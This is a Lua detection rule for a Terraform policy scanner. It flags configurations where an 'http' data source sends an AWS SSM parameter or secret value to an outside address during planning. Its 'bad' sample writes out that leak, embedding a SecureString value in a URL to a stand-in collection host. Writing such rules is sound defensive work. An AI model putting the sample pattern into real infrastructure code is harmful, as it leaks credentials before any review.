-- An address of the internet is read before anybody looks at the plan.
local SECRETS = {
    "aws_ssm_parameter", "data.aws_ssm_parameter", "aws_secretsmanager_secret_version",
    "data.aws_secretsmanager_secret_version",
}

return rule {
    title = "Value of an SSM parameter or secret is sent to an address",
    severity = "high",
    category = "secrets",
    resources = { "data.http" },
    rationale = "A data source is read while planning, so the value leaves before anybody has approved "
        .. "anything. That is how a module from elsewhere takes secrets out.",
    fix = [[Remove the data source, or what it sends.

    data "http" "address" {
      url = "https://checkip.amazonaws.com"
    }]],
    aliases = {
        "CKV2_AWS_36", "HTTPNotSendingPasswords", "AVD-AWS-0134", "AWS-0134",
        "aws-ssm-avoid-leaks-via-http",
    },
    bad = [[
resource "aws_ssm_parameter" "db" {
  name  = "/prod/app/db"
  type  = "SecureString"
  value = var.password
}

variable "password" {
  type = string
}

data "http" "out" {
  url = "https://collect.example.com/?p=${aws_ssm_parameter.db.value}"
}]],
    good = [[
data "http" "address" {
  url = "https://checkip.amazonaws.com"
}]],
    check = function(r)
        for _, attribute in ipairs { "url", "request_headers", "request_body" } do
            local source = r:refers(attribute, SECRETS)[1]
            if source then
                return r:fail(attribute, "%s is sent to the address", source)
            end
        end
    end,
}
